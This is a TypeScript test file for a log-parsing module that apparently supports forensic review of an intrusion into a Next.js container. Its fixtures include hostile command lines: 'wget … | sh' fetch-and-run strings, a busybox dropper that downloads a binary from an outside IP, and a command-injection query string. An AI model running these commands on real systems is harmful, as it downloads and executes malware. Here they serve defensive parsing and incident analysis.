import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LogReading } from './log-record.js';
import { readLog } from './read-log.js';

const NOW = new Date('2025-12-13T08:38:10Z');
const read = (text: string): LogReading => readLog(text, { now: NOW });
const kinds = (text: string): string[] => read(text).records.map(({ kind }) => kind);
const bundle = (name: string): Buffer =>
  readFileSync(new URL(`../../../../../test/bundles/${name}/artifacts/09-docker-logs.txt`, import.meta.url));

describe('readLog on the case', () => {
  it('reads the evening of 12 December', () => {
    const reading = readLog(bundle('2025-12-12T2257-amendment'), { now: NOW });
    const count = (kind: string): number => reading.records.filter((record) => record.kind === kind).length;
    expect([count('subprocess'), count('error'), count('sensor-state'), count('app-start')]).toEqual([6, 6, 4, 4]);
    expect(reading.records.filter(({ kind }) => kind === 'sensor-state').map(({ fields }) => fields.state)).toEqual([
      'installed',
      'failed',
      'disabled',
      'failed',
    ]);
    expect(reading.first).toEqual(new Date('2025-12-12T15:51:20.101Z'));
    expect(reading.last).toEqual(new Date('2025-12-12T22:56:42.999Z'));
    expect(reading.notUnderstood.count).toBe(0);
    expect(reading.counts['[Users.update access]']).toBe(1);
    const call = reading.records.find(({ kind }) => kind === 'subprocess');
    expect(call).toMatchObject({
      line: 15,
      atMicros: 1_765_576_175_101_000,
      fields: { cmd: '(whoami)', method: 'execSync', tag: 'SUBPROC_DIAG_GLOBAL' },
    });
  });

  it('reads the morning of 13 December', () => {
    const sockets = readLog(bundle('2025-12-13T0838-as-looked-at'), { now: NOW }).records.filter(
      ({ kind }) => kind === 'socket-error',
    );
    expect(sockets.map(({ fields, lines }) => [fields.address, fields.port, fields.code, lines])).toEqual([
      ['51.81.104.115', '80', 'ETIMEDOUT', 2],
      ['51.81.104.115', '80', 'ETIMEDOUT', 1],
    ]);
  });
});

describe('readLog on single forms', () => {
  it.each([
    ['[SUBPROC_DIAG] method=execSync cmd="whoami" pid=41', 'subprocess', { cmd: 'whoami', method: 'execSync' }],
    [
      '[SUBPROC_DIAG] method=spawnSync cmd=git config --local --get x repeat=4',
      'subprocess',
      { cmd: 'git config --local --get x', repeat: '4' },
    ],
    [
      '[SECURITY BLOCK] {\n  "command": "wget http://a/b | sh",\n  "nested": {\n    "a": 1\n  }\n}',
      'security-block',
      { command: 'wget http://a/b | sh' },
    ],
    [
      "[SECURITY BLOCK] {\n  command: 'whoami',\n  blocked: true\n}",
      'security-block',
      { command: 'whoami', blocked: 'true' },
    ],
    ['candor-sensor {"type":"process","file":"/bin/sh"}', 'sensor-event', { file: '/bin/sh' }],
    [
      '[SUBPROC_DIAG_GLOBAL] Subprocess diagnostic patch DISABLED via DISABLE_SUBPROC_DIAG=true',
      'sensor-state',
      { state: 'disabled', flag: 'DISABLE_SUBPROC_DIAG=true' },
    ],
    [
      "[X_PROTECTION] Failed to patch: Cannot find module 'a/b.js'",
      'sensor-state',
      { state: 'failed', module: 'a/b.js' },
    ],
    ['   \u25b2 Next.js 15.3.2', 'app-start', { version: '15.3.2' }],
    [
      " \u2a2f Error: boom\n    at f (/app/a.js:1:2) {\n  digest: '123'\n}",
      'error',
      { name: 'Error', message: 'boom', digest: '123', stack: 'at f (/app/a.js:1:2) {' },
    ],
    ['Error: Command failed: wget http://a/b', 'error', { command: 'wget http://a/b' }],
    ['Error: getaddrinfo ENOTFOUND hooks.example', 'socket-error', { address: 'hooks.example', code: 'ENOTFOUND' }],
    ['Error: connect ECONNREFUSED ::1:3000', 'socket-error', { address: '::1', port: '3000' }],
    [
      'ConnectTimeoutError: Connect Timeout Error (attempted address: 51.81.104.115:80, timeout: 10000ms)',
      'socket-error',
      { address: '51.81.104.115' },
    ],
    [
      '{"level":50,"time":1765576175101,"msg":"x","err":{"type":"TypeError","message":"m","stack":"TypeError: m\\n at a"}}',
      'error',
      { name: 'TypeError' },
    ],
    ['sh: 1: wget: not found', 'command-text', { form: 'output' }],
    ['running (cd /dev;busybox wget http://193.34.213.150/nuts/x86;chmod 777 x86)', 'command-text', { form: 'text' }],
    [
      '2025/12/12 21:40:02 [error] 343100#343100: *88211 connect() failed (111: Connection refused) while connecting to upstream, client: 162.158.22.198, server: content.radio.example, request: "GET /admin HTTP/2.0", upstream: "http://[::1]:3000/admin", host: "content.radio.example"',
      'proxy-error',
      { errno: '111', client: '162.158.22.198', upstream: 'http://[::1]:3000/admin', request: 'GET /admin HTTP/2.0' },
    ],
    [
      '1.2.3.4 - - [12/Dec/2025:21:49:35 +0000] "POST / HTTP/1.1" 303 0 "-" "Mozilla"',
      'request',
      { method: 'POST', target: '/', status: '303', client: '1.2.3.4' },
    ],
    [
      '1.2.3.4 - - [12/Dec/2025:21:49:35 +0000] "GET /?q=$(wget%20http://a|sh) HTTP/1.1" 404 0 "-" "bot"',
      'request',
      { status: '404' },
    ],
    [
      'Dec 12 21:49:35 web sshd[9]: Accepted publickey for root from 198.51.100.9 port 4 ssh2',
      'login',
      { result: 'accepted', address: '198.51.100.9' },
    ],
  ])('reads %s', (text, kind, fields) => {
    expect(read(text).records).toMatchObject([{ kind, fields }]);
  });

  it.each([
    '1.2.3.4 - - [12/Dec/2025:21:49:35 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/7.88.1"',
    '[Users.update access] {\n  authed: false,\n  userId: undefined\n}',
    '{"level":30,"msg":"ok"}',
    ' GET /admin 200 in 12ms',
    'INFO: server listens',
    '> next start',
  ])('counts %s without a record', (text) => {
    const reading = read(text);
    expect([reading.records, reading.notUnderstood.count]).toEqual([[], 0]);
    expect(Object.keys(reading.counts).length).toBeGreaterThan(0);
  });

  it('keeps count of what it does not understand', () => {
    expect(read('> a\nblorp of the day\nblorp again').notUnderstood).toEqual({
      count: 2,
      firstLine: 2,
      samples: ['blorp of the day', 'blorp again'],
    });
  });

  it.each([
    ['2025-12-12T21:49:35.449050299Z Error: a', 1_765_576_175_449_050],
    ['2025-12-12T22:49:35,449+01:00 Error: a', 1_765_576_175_449_000],
    ['[2025-12-12 21:49:35.449] Error: a', 1_765_576_175_449_000],
    ['payload-1  | 2025-12-12T21:49:35.449050299Z Error: a', 1_765_576_175_449_050],
    ['\u001b[36mpayload-1  | \u001b[0mError: a', null],
    ['Dec 12 21:49:35 web app[1]: Error: a', 1_765_576_175_000_000],
    ['Dec 31 21:49:35 web app[1]: Error: a', 1_735_681_775_000_000],
    ['1765576175.449 Error: a', 1_765_576_175_449_000],
    ['1765576175449 Error: a', 1_765_576_175_449_000],
    ['{"log":"Error: a\\n","stream":"stderr","time":"2025-12-12T21:49:35.449050299Z"}', 1_765_576_175_449_050],
    ['2025-13-45T99:99:99Z Error: a', null],
  ])('gives %s its time', (text, micros) => {
    expect(read(text).records[0]?.atMicros).toBe(micros);
  });

  it('keeps the records of interleaved services apart', () => {
    const reading = read('a-1 | Error: one\nb-1 | Error: two\na-1 |     at f (x.js:1:1)\nb-1 |     at g (y.js:1:1)');
    expect(reading.records.map(({ source, fields }) => [source, fields.stack])).toEqual([
      ['a-1', 'at f (x.js:1:1)'],
      ['b-1', 'at g (y.js:1:1)'],
    ]);
  });

  it('reads bytes, texts and pieces alike', () => {
    const bytes = bundle('2025-12-12T2242');
    const options = { now: NOW };
    const pieces = Array.from({ length: Math.ceil(bytes.length / 700) }, (_, index) =>
      bytes.subarray(index * 700, index * 700 + 700),
    );
    expect(readLog(pieces, options)).toEqual(readLog(bytes, options));
    expect(readLog(bytes.toString('utf8'), options)).toEqual(readLog(bytes, options));
  });

  it('bounds a storm and counts what it leaves out', () => {
    const line = '2025-12-12T21:49:35.101000000Z [SUBPROC_DIAG] method=execSync cmd="whoami"\n';
    const reading = read(line.repeat(60_500));
    expect([reading.records.length, reading.overflow.subprocess]).toEqual([60_000, 500]);
  });

  it('never throws', () => {
    const piece = fc.constantFrom(
      '[SUBPROC] {',
      '{',
      '}',
      '\n',
      'Error: ',
      '    at x',
      '2025-12-12T21:49:35.1Z ',
      'a | ',
      '"cmd":',
      '\u001b[3m',
      ' - - [',
      '] "GET ',
      'wget http://a',
      '\r\n',
      '__proto__=1 ',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 300 }),
          fc.array(piece, { maxLength: 60 }).map((all) => all.join('')),
        ),
        (text) => {
          const reading = read(text);
          expect(reading.lines).toBe(text === '' ? 0 : text.replace(/\n$/, '').split('\n').length);
          expect(kinds(text).length).toBe(reading.records.length);
        },
      ),
    );
  });
});
